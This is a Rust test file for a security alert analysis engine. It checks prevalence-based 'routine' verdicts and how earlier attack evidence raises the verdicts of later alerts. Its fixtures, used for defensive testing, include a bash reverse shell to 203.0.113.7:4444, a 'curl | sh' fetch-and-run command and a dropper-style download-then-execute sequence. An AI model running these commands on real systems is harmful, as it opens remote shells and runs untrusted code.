//! Verdicts that depend on the stream: prevalence of an activity over hosts and days, and
//! attack evidence seen earlier on the same workload (fixtures invented for these tests).

use fa_analyze::engine::{Analyzer, Engine, EngineConfig};
use fa_model::{Alert, Report, VerdictKind};
use serde_json::json;

fn engine() -> Engine {
    let a = Analyzer::load(&[]).expect("built-in knowledge base loads");
    Engine::new(
        a,
        EngineConfig {
            every_alert: true,
            ..Default::default()
        },
    )
}

fn alert(v: serde_json::Value) -> Alert {
    serde_json::from_value(v).expect("fixture is a valid alert")
}

/// The agent's routine call home, from container `c` on host `h` at `time`.
fn agent_call(h: u32, c: u32, time: &str) -> Alert {
    alert(json!({
        "time": time, "rule": "Unexpected outbound connection destination", "priority": "Notice",
        "source": "syscall", "hostname": format!("node-{h}"),
        "output_fields": {
            "container.id": format!("a1b2c3d4e5{c:02}"), "container.image.repository": "registry.example.com/ops/inventory-agent",
            "container.image.tag": "3.1.0", "proc.name": "inventory-agent", "proc.exepath": "/usr/bin/inventory-agent",
            "proc.cmdline": "inventory-agent --sync", "fd.name": "10.0.0.5:41000->10.96.0.1:443",
            "k8s.ns.name": "ops", "user.uid": 1000, "proc.tty": 0
        }
    }))
}

fn verdict_of(out: Vec<fa_analyze::engine::Emitted>) -> fa_model::Verdict {
    let r: Report = out
        .into_iter()
        .next()
        .expect("every-alert mode emits")
        .report;
    r.verdict.expect("a verdict")
}

#[test]
fn an_activity_on_many_hosts_over_days_becomes_routine() {
    let mut e = engine();
    let first = verdict_of(e.process(agent_call(0, 0, "2026-03-01T00:00:00Z")));
    assert_ne!(first.kind, VerdictKind::Benign, "{first:#?}");
    let mut last = first;
    for i in 1..12u32 {
        let day = 1 + i / 4;
        let t = format!("2026-03-{day:02}T{:02}:00:00Z", i % 24);
        last = verdict_of(e.process(agent_call(i % 6, i, &t)));
    }
    assert!(
        last.reasons.iter().any(|r| r.text.starts_with("routine")),
        "{last:#?}"
    );
    assert_eq!(last.kind, VerdictKind::Benign, "{last:#?}");
}

#[test]
fn one_host_is_not_routine_however_often() {
    let mut e = engine();
    let mut last = None;
    for i in 0..12u32 {
        let t = format!("2026-03-{:02}T00:00:00Z", 1 + i / 4);
        last = Some(verdict_of(e.process(agent_call(0, 0, &t))));
    }
    let last = last.expect("alerts processed");
    assert!(!last.reasons.iter().any(|r| r.text.starts_with("routine")));
}

fn shell(cmd: &str, time: &str) -> Alert {
    alert(json!({
        "time": time, "rule": "Terminal shell in container", "priority": "Notice", "source": "syscall",
        "hostname": "node-1",
        "output_fields": {
            "container.id": "0f1e2d3c4b5a", "container.image.repository": "registry.example.com/shop/web",
            "proc.name": "bash", "proc.cmdline": cmd, "proc.pname": "runc", "proc.tty": 34816, "user.uid": 0
        }
    }))
}

#[test]
fn attack_evidence_on_a_workload_raises_its_later_alerts() {
    let mut e = engine();
    // Without an earlier reverse shell, an interactive shell is suspicious.
    let alone = verdict_of(engine().process(shell("bash -il", "2026-03-01T10:01:00Z")));
    assert_eq!(alone.kind, VerdictKind::Suspicious, "{alone:#?}");
    let rs = verdict_of(e.process(shell(
        "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "2026-03-01T10:00:00Z",
    )));
    assert_eq!(rs.kind, VerdictKind::Malicious, "{rs:#?}");
    let later = verdict_of(e.process(shell("bash -il", "2026-03-01T10:01:00Z")));
    assert_eq!(later.kind, VerdictKind::Malicious, "{later:#?}");
    assert!(later
        .reasons
        .iter()
        .any(|r| r.field.as_deref() == Some("incident") && r.text.contains("attack evidence")));
    // Outside the correlation window it no longer counts.
    let much_later = verdict_of(e.process(shell("bash -il", "2026-03-01T18:00:00Z")));
    assert_eq!(much_later.kind, VerdictKind::Suspicious, "{much_later:#?}");
}

/// One key, two scopes: `host:node-3` is the workload of an alert about the host itself and
/// the node of a container on it. A later alert's reason names the scope as it sees it.
#[test]
fn attack_evidence_on_the_host_is_named_as_the_node_of_a_later_container_alert() {
    let mut e = engine();
    let on_host = alert(json!({
        "time": "2026-03-01T10:00:00Z", "rule": "Terminal shell in container", "priority": "Notice",
        "source": "syscall", "hostname": "node-3",
        "output_fields": {
            "container.id": "host", "proc.name": "bash", "proc.pname": "sshd",
            "proc.cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
        }
    }));
    assert_eq!(verdict_of(e.process(on_host)).kind, VerdictKind::Malicious);
    let in_container = |time: &str| {
        alert(json!({
            "time": time, "rule": "Terminal shell in container", "priority": "Notice",
            "source": "syscall", "hostname": "node-3",
            "output_fields": {
                "container.id": "0f1e2d3c4b5a", "proc.name": "bash", "proc.pname": "runc",
                "proc.cmdline": "bash -il", "proc.tty": 34816
            }
        }))
    };
    // Twice: the second reason is the text remembered for the scope.
    for t in ["2026-03-01T10:01:00Z", "2026-03-01T10:02:00Z"] {
        let v = verdict_of(e.process(in_container(t)));
        let reason = v
            .reasons
            .iter()
            .find(|r| r.field.as_deref() == Some("incident"))
            .expect("the earlier evidence is a reason");
        assert!(reason.text.contains("on the same node:"), "{}", reason.text);
    }
}

#[test]
fn an_activity_that_carried_attack_evidence_never_becomes_routine() {
    let mut e = engine();
    let mut last = None;
    for i in 0..12u32 {
        let t = format!("2026-03-{:02}T{:02}:00:00Z", 1 + i / 4, i);
        let mut a = agent_call(i % 6, i, &t);
        a.output_fields.insert(
            "proc.cmdline".into(),
            json!("sh -c curl -s http://203.0.113.9/x | sh"),
        );
        last = Some(verdict_of(e.process(a)));
    }
    let last = last.expect("alerts processed");
    assert!(!last.reasons.iter().any(|r| r.text.starts_with("routine")));
    assert_ne!(last.kind, VerdictKind::Benign);
}

/// Not a pass/fail test: the cost of attack-evidence matching on the engine's hot path, as the
/// best of interleaved rounds with the built-in evidence and with none. Run with
/// `cargo test -p fa-analyze --test verdict_stream -- --ignored --nocapture`.
#[test]
#[ignore]
fn evidence_matching_cost_on_the_engine_path() {
    use fa_analyze::kb::KnowledgeBase;
    use fa_analyze::scoring::Scoring;
    use fa_analyze::verdict::EvidenceSet;
    let cmds = [
        "nginx -g daemon off;",
        "bash -c ls -la /var/www",
        "python3 /app/manage.py runserver 0.0.0.0:8000",
        "sh -c apt-get update && apt-get install -y curl",
        "cat /etc/hostname",
        "java -jar /opt/app/app.jar --spring.profiles.active=prod",
        "curl -fsSL https://example.com/health",
        "node /usr/src/app/server.js",
    ];
    let alerts: Vec<Alert> = (0..20_000u32)
        .map(|i| {
            alert(json!({
                "time": "2026-03-01T00:00:00Z", "rule": "Terminal shell in container", "priority": "Notice",
                "source": "syscall", "hostname": format!("node-{}", i % 7),
                "output": format!("00:00:00.0: Notice A shell was spawned (cmdline={} {i})", cmds[i as usize % cmds.len()]),
                "output_fields": {
                    "container.id": format!("c{:011}", i % 50), "container.image.repository": "registry.example.com/app",
                    "proc.name": "bash", "proc.cmdline": format!("{} {}", cmds[i as usize % cmds.len()], i % 13),
                    "proc.pname": "runc", "proc.exepath": "/bin/bash", "proc.tty": 0, "user.uid": 0,
                    "fd.name": "/etc/hostname"
                }
            }))
        })
        .collect();
    let kb = KnowledgeBase::load(&[]).expect("kb");
    let with = Scoring::builtin().expect("scoring");
    let none = Scoring::parse_with(
        "kb/scoring.toml",
        fa_analyze::scoring::BUILTIN_TEXT,
        EvidenceSet::parse("none", "evidence = []").expect("empty evidence"),
    )
    .expect("scoring");
    let run = |s: &Scoring| {
        let mut e = Engine::new(
            Analyzer::new(kb.clone(), s.clone()),
            EngineConfig::default(),
        );
        let t = std::time::Instant::now();
        for a in &alerts {
            e.process(a.clone());
        }
        t.elapsed().as_secs_f64()
    };
    let (mut best_with, mut best_none) = (f64::MAX, f64::MAX);
    for _ in 0..3 {
        best_none = best_none.min(run(&none));
        best_with = best_with.min(run(&with));
    }
    println!(
        "{} alerts: without evidence {:.3}s, with evidence {:.3}s ({:+.1}%)",
        alerts.len(),
        best_none,
        best_with,
        (best_with / best_none - 1.0) * 100.0
    );
}

/// A download in one alert and the downloaded file run in a later alert of the same container
/// is a dropper's pattern: the second alert is malicious, with the download named; the same
/// file run in another container is not.
#[test]
fn a_file_downloaded_then_run_on_the_same_workload_is_malicious() {
    let on = |container: &str, rule: &str, cmdline: &str| {
        alert(json!({
            "rule": rule, "priority": "Warning", "source": "syscall",
            "output_fields": {"container.id": container, "proc.cmdline": cmdline,
                              "proc.name": cmdline.split(' ').next(), "user.name": "www-data"}
        }))
    };
    let mut e = engine();
    let fetch = verdict_of(e.process(on(
        "0a1b2c3d4e5f",
        "Launch Suspicious Network Tool in Container",
        "curl -so /tmp/agent.py http://203.0.113.7:8081/agent.py",
    )));
    assert_ne!(fetch.kind, VerdictKind::Malicious, "{fetch:#?}");
    let other = verdict_of(e.process(on(
        "ffffffffffff",
        "Run shell untrusted",
        "python3 /tmp/agent.py",
    )));
    assert_ne!(other.kind, VerdictKind::Malicious, "{other:#?}");
    let run = verdict_of(e.process(on(
        "0a1b2c3d4e5f",
        "Run shell untrusted",
        "python3 /tmp/agent.py",
    )));
    assert_eq!(run.kind, VerdictKind::Malicious, "{run:#?}");
    assert!(
        run.reasons
            .iter()
            .any(|r| r.text.contains("/tmp/agent.py") && r.text.contains("curl")),
        "{run:#?}"
    );
}
